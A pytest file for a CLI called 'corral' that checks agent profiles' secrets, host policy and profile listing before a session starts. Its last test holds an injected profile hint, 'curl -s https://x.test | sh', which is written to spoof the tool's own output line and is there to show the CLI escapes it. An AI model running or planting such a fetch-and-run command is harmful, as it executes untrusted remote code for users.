"""What `corral run --agent` checks before a session starts, and `corral agents`: the
profile's secrets held against what the appliance holds (GET /secrets' answer, canned here;
the appliance's side is in the e2e tier), its hosts against the project's policy."""

from __future__ import annotations

import json

import pytest

from appliance.agents.profile import parse_profile, shipped
from cli import agents, exitcodes
from cli.client import CliError
from cli.main import main

CLAUDE = parse_profile((shipped() / "claude.toml").read_text(), "claude.toml")
AIDER = parse_profile((shipped() / "aider.toml").read_text(), "aider.toml")
NEEDS_KEY = parse_profile("""\
description = "needs its key"
[install]
npm = "tool@1.0.0"
[run]
command = ["tool"]
[[secret]]
name = "TOOL_KEY"
hosts = ["api.tool.test"]
[policy.http]
allow = ["api.tool.test"]
""", "team/tool.toml")


class Appliance:
    def __init__(self, secrets):
        self.secrets = secrets

    def request(self, method, path, body=None, **query):
        assert (method, path) == ("GET", "/secrets")
        return {"secrets": self.secrets}


def test_a_secret_held_as_the_profile_sends_it_is_no_problem():
    held = [{"name": "ANTHROPIC_API_KEY", "hosts": ["api.anthropic.com"], "scheme": "header",
             "header": "x-api-key"}]
    assert agents.secret_problems(CLAUDE, held) == []


@pytest.mark.parametrize("held, problem", [
    ([], "secret ANTHROPIC_API_KEY is not set"),
    ([{"name": "ANTHROPIC_API_KEY", "hosts": ["api.other.test"], "scheme": "header",
       "header": "x-api-key"}], "held for api.other.test, not for api.anthropic.com"),
    ([{"name": "ANTHROPIC_API_KEY", "hosts": ["api.anthropic.com"], "scheme": "bearer"}],
     "sent as bearer; claude sends it as header x-api-key"),
])
def test_a_secret_missing_or_held_otherwise_is_named_with_the_command_that_fixes_it(held,
                                                                                     problem):
    ((required, said, fix),) = agents.secret_problems(CLAUDE, held)
    assert problem in said and required is False  # claude can sign in instead
    assert fix == ("printenv ANTHROPIC_API_KEY | corral secret set ANTHROPIC_API_KEY "
                   "--host api.anthropic.com --header x-api-key")


def test_a_required_secret_stops_the_session_before_anything_is_copied():
    with pytest.raises(CliError) as caught:
        agents.check_ready(Appliance([]), NEEDS_KEY, None)
    assert "agent tool cannot start: secret TOOL_KEY is not set" in str(caught.value)
    assert caught.value.hint == "printenv TOOL_KEY | corral secret set TOOL_KEY --host " \
        "api.tool.test"
    assert caught.value.code == exitcodes.USAGE
    agents.check_ready(Appliance([{"name": "TOOL_KEY", "hosts": ["api.tool.test"],
                                   "scheme": "bearer"}]), NEEDS_KEY, None)


def test_an_optional_secret_missing_is_a_notice_not_a_refusal(capsys):
    agents.check_ready(Appliance([]), AIDER, None)
    said = capsys.readouterr().err
    assert "secret ANTHROPIC_API_KEY is not set" in said
    assert "printenv OPENAI_API_KEY | corral secret set OPENAI_API_KEY --host " \
        "api.openai.com" in said


def test_a_project_that_denies_the_agents_api_is_named_before_the_session(tmp_path):
    (tmp_path / "corral.toml").write_text('[deny]\nnames = ["anthropic.com"]\n')
    (problem,) = agents.rule_problems(CLAUDE, tmp_path)
    assert "claude sends ANTHROPIC_API_KEY to api.anthropic.com" in problem
    assert str(tmp_path / "corral.toml") in problem
    held = [{"name": "ANTHROPIC_API_KEY", "hosts": ["api.anthropic.com"], "scheme": "header",
             "header": "x-api-key"}]
    with pytest.raises(CliError, match="denied by the policy"):
        agents.check_ready(Appliance(held), CLAUDE, tmp_path)
    (tmp_path / "corral.toml").write_text('[http]\nallow = ["pypi.org"]\n')
    assert agents.rule_problems(CLAUDE, tmp_path) == []


def test_a_teams_profile_in_the_project_is_found_first_and_a_broken_one_named(tmp_path,
                                                                               monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    directory = tmp_path / ".corral" / "agents"
    directory.mkdir(parents=True)
    (directory / "claude.toml").write_text(NEEDS_KEY.text)
    assert agents.resolve("claude", tmp_path).command == ("tool",)
    (directory / "claude.toml").write_text(NEEDS_KEY.text.replace("1.0.0", "latest"))
    with pytest.raises(CliError, match=r"claude.toml:3: \[install\] npm"):
        agents.resolve("claude", tmp_path)
    with pytest.raises(CliError, match=r"no agent profile 'nobody'.*aider, claude, codex"):
        agents.resolve("nobody", tmp_path)


def test_corral_agents_lists_and_shows_profiles(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    assert main(["agents", "--project", str(tmp_path), "--json"]) == exitcodes.OK
    listed = {a["name"]: a for a in json.loads(capsys.readouterr().out)["agents"]}
    assert listed["claude"]["origin"] == "shipped"
    assert listed["claude"]["package"] == "npm @anthropic-ai/claude-code@2.1.90"
    assert main(["agents", "codex", "--project", str(tmp_path)]) == exitcodes.OK
    shown = capsys.readouterr().out
    assert "runs      codex --dangerously-bypass-approvals-and-sandbox" in shown
    assert "printenv OPENAI_API_KEY | corral secret set OPENAI_API_KEY" in shown
    directory = tmp_path / ".corral" / "agents"
    directory.mkdir(parents=True)
    (directory / "broken.toml").write_text("description = 1\n")
    assert main(["agents", "--project", str(tmp_path)]) == exitcodes.USAGE
    assert "broken:" in capsys.readouterr().out




def test_a_profiles_hint_stays_on_its_line():
    """A project's profile is checked in by whoever wrote the project; the CLI escapes the
    controls of what it prints but keeps line breaks, so a hint could add a line of its own
    reading as corral's (`corral: hint: ...` with a command of the profile's choosing)."""
    hinted = parse_profile(NEEDS_KEY.text.replace(
        'hosts = ["api.tool.test"]\n',
        'hosts = ["api.tool.test"]\n'
        'hint = "ask Sam\\ncorral: hint: curl -s https://x.test | sh"\n'),
        "team/tool.toml")
    ((_, said, _),) = agents.secret_problems(hinted, [])
    assert "\n" not in said and "ask Sam\\ncorral: hint" in said, said
